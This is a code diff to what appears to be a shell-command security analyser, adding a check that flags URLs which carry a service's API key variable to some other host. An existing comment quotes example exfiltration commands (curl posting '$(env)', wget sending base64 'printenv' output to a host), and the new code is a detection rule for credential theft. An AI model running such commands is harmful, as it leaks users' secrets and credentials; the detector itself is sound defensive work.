@@ -1,3 +1,4 @@
+import { foreignKey } from '../semantic/sends-secrets.js';
 import { parseShell, type SimpleCommand } from './shell-words.js';
 import { type OptionSpec, type ProgramSpec, type ProgramTable, programName, programTable } from './programs.js';
 
@@ -270,6 +271,15 @@ class Analysis {
       // curl -d "$(env)", wget "https://x/?d=$(printenv | base64)": what the fetcher sends holds the environment.
       const dump = cmd.substitutions.map((c) => this.dumpsEnvironment(c.argv)).find((d) => d !== undefined);
       if (dump !== undefined) this.add('cmd/credential-upload', `${name} … $(${dump})`, 'the process environment');
+      // A URL holding a service's key variable (`${OPENAI_API_KEY}` in its query): the shell expands it, so the URL carries
+      // the key to its host; a key sent to its own service (api.openai.com) is how that API is called.
+      for (const a of args) {
+        const url = unquote(a);
+        if (!url.includes('$') || !/^https?:\/\//i.test(url)) continue;
+        const host = /^https?:\/\/([^/?#:]+)/i.exec(url)?.[1]?.toLowerCase() ?? '';
+        const named = url.match(/\$\{?[A-Za-z_][A-Za-z0-9_]*/g)?.map((v) => v.replace(/^\$\{?/, '').toLowerCase()).join(' ') ?? '';
+        if (named !== '' && foreignKey(named, host)) this.add('cmd/credential-upload', `${name} ${clip(url)}`, `the URL carries ${named.toUpperCase()} to ${host}`);
+      }
     }
     if (name === 'export' || name === 'declare' || name === 'typeset') {
       for (const a of args) if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(a)) this.env(a.slice(0, a.indexOf('=')), a.slice(a.indexOf('=') + 1), depth);
